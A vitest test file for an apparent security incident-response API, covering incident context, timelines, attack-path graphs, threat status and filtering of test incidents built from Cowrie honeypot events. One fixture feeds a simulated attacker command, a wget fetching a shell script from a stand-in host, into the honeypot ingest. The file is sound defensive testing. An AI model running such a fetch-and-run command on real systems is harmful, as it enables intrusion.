import { describe, expect, it } from 'vitest';
import { BASE_MS, commandInput, detect, insertLooseAlert, postMulti, seedIncidents } from '../../tests/fixtures/cases.ts';
import { createTestOrg } from '../../tests/fixtures/identity.ts';
import { useTestServer } from '../../tests/harness.ts';

const t = useTestServer();

describe('GET /api/incidents/{inc_id}/context', () => {
  it('summarises indicators, event types and related incidents from the same source', async () => {
    const org = await createTestOrg(t.deps);
    const { brute } = await seedIncidents(t, org, '198.51.100.7');
    await postMulti(t, org, 'cowrie', [commandInput('198.51.100.7', 40, 'wget http://dl.example.test/m.sh')]);
    await detect(t, org);
    const related = await t.http.post(`/incidents/from-alert/${await insertLooseAlert(t, org, '198.51.100.7')}`, {}, org.admin.headers);
    const context = await t.http.get(`/api/incidents/${brute}/context`, org.admin.headers);
    expect(context.status).toBe(200);
    expect(context.body).toMatchObject({ incident_id: brute, src_ip: '198.51.100.7', threat_category: 'brute_force', status: 'open', triage_note: null });
    expect(context.body.event_breakdown['cowrie.login.failed']).toBe(6);
    expect(context.body.total_events).toBeGreaterThanOrEqual(6);
    expect(context.body.top_iocs.ips).toContain('198.51.100.7');
    expect(context.body.top_iocs.usernames).toEqual(['root']);
    expect(context.body.attack_patterns).toContainEqual({ technique: 'T1110.001', name: 'Brute Force: Password Guessing' });
    expect(context.body.related_incidents.map((row: { id: number }) => row.id)).toEqual([related.body.id]);
    expect(context.body.incident.id).toBe(brute);
    expect(context.body.context_summary).toContain('198.51.100.7');
  });
});

describe('GET /api/incidents/timeline', () => {
  it('counts incidents per bucket and category, and validates the window', async () => {
    const org = await createTestOrg(t.deps);
    await seedIncidents(t, org);
    const trends = await t.http.get('/api/incidents/timeline', org.admin.headers);
    expect(trends.status).toBe(200);
    expect(trends.body).toMatchObject({ bucket: 'day', total: 2, by_category: { brute_force: 1, reconnaissance: 1 } });
    expect(trends.body.points).toHaveLength(1);
    const hourly = await t.http.get(`/api/incidents/timeline?since=${encodeURIComponent(new Date(Date.now() - 3_600_000).toISOString())}`, org.admin.headers);
    expect(hourly.body).toMatchObject({ bucket: 'hour', total: 2 });
    expect(hourly.body.points[0].bucket_start).toMatch(/T\d\d:00:00.000Z$/);
    const wide = await t.http.get(
      `/api/incidents/timeline?since=${encodeURIComponent(new Date(Date.now() - 100 * 86_400_000).toISOString())}`,
      org.admin.headers,
    );
    expect(wide.status).toBe(400);
    expect((await t.http.get('/api/incidents/timeline?bucket=week', org.admin.headers)).status).toBe(400);
  });
});

describe('GET /api/incidents/attack-paths', () => {
  it('graphs sources, targets, services and techniques from the incidents of the window', async () => {
    const org = await createTestOrg(t.deps);
    await seedIncidents(t, org, '203.0.113.10', '192.0.2.66');
    const paths = await t.http.get('/api/incidents/attack-paths', org.admin.headers);
    expect(paths.status).toBe(200);
    const ids = paths.body.nodes.map((node: { id: string }) => node.id);
    expect(ids).toEqual(
      expect.arrayContaining(['ip:203.0.113.10', 'ip:192.0.2.66', 'host:10.0.0.2', 'host:10.0.0.5', 'svc:22/tcp', 'tech:T1110.001', 'tech:T1046']),
    );
    expect(paths.body.edges).toContainEqual({ source: 'ip:203.0.113.10', target: 'host:10.0.0.2', type: 'connects_to', count: 6 });
    expect(paths.body.edges).toContainEqual(expect.objectContaining({ source: 'ip:192.0.2.66', target: 'tech:T1046', type: 'uses_technique' }));
    expect(paths.body.nodes.find((node: { id: string }) => node.id === 'svc:22/tcp').label).toBe('22/tcp (ssh)');
    expect(paths.body.truncated).toBe(false);
    const empty = await t.http.get(
      `/api/incidents/attack-paths?until=${encodeURIComponent(new Date(Date.now() - 86_400_000).toISOString())}`,
      org.admin.headers,
    );
    expect(empty.body).toMatchObject({ nodes: [], edges: [] });
  });
});

describe('GET /api/incidents/{incident_id}/threat-status', () => {
  it('reports lifecycle, risk evidence, alerts and whether activity continues', async () => {
    const org = await createTestOrg(t.deps);
    const { brute } = await seedIncidents(t, org);
    await t.http.patch(`/incidents/${brute}`, { status: 'investigating' }, org.admin.headers);
    const status = await t.http.get(`/api/incidents/${brute}/threat-status?active_window_minutes=120`, org.admin.headers);
    expect(status.status).toBe(200);
    expect(status.body).toMatchObject({
      success: true,
      incident_id: brute,
      status: 'investigating',
      last_action: null,
      source_ip: '203.0.113.10',
      alert_count: 1,
      alerts_by_status: { open: 1 },
      attack_active: true,
      activity: { window_minutes: 120, recent_events: 6 },
      containment_status: null,
      containment_method: null,
    });
    expect(status.body.risk_evidence[0].detector).toBe('ssh_brute_force');
    expect(new Date(status.body.activity.last_event_at).getTime()).toBe(BASE_MS + 25_000);
    const quiet = await t.http.get(`/api/incidents/${brute}/threat-status?active_window_minutes=1`, org.admin.headers);
    expect(quiet.body).toMatchObject({ attack_active: false, activity: { recent_events: 0, last_event_at: null } });
    expect((await t.http.get(`/api/incidents/${brute}/threat-status?active_window_minutes=0`, org.admin.headers)).status).toBe(400);
  });
});

describe('GET /incidents/real', () => {
  it('leaves out synthetic and test-tagged incidents unless include_test is set', async () => {
    const org = await createTestOrg(t.deps);
    const { brute, scan } = await seedIncidents(t, org);
    const synthetic = await t.http.post('/ingest/synthetic', { scenario: 'brute_force', seed: 7, src_ip: '203.0.113.77' }, org.admin.headers);
    expect(synthetic.status).toBe(200);
    await detect(t, org);
    const all = await t.http.get<{ id: number; src_ip: string }[]>('/incidents', org.admin.headers);
    const fake = all.body.find((row) => row.src_ip === '203.0.113.77');
    expect(fake).toBeDefined();
    const tagged = await t.http.post('/incidents', { title: 'Drill', tags: ['test'] }, org.admin.headers);
    const manual = await t.http.post('/incidents', { title: 'Real report' }, org.admin.headers);
    const real = await t.http.get<{ id: number }[]>('/incidents/real', org.admin.headers);
    expect(real.status).toBe(200);
    expect(real.body.map((row) => row.id).sort()).toEqual([brute, scan, manual.body.id].sort());
    expect(real.headers.get('x-total-count')).toBe('3');
    const everything = await t.http.get<{ id: number }[]>('/incidents/real?include_test=true', org.admin.headers);
    expect(everything.body.map((row) => row.id)).toEqual(expect.arrayContaining([fake?.id, tagged.body.id]));
    expect(everything.headers.get('x-total-count')).toBe(String(all.body.length + 2));
    expect((await t.http.get('/incidents/real?threat_category=reconnaissance', org.admin.headers)).body.map((row: { id: number }) => row.id)).toEqual([scan]);
    expect((await t.http.get('/incidents/real?include_test=maybe', org.admin.headers)).status).toBe(400);
  });
});
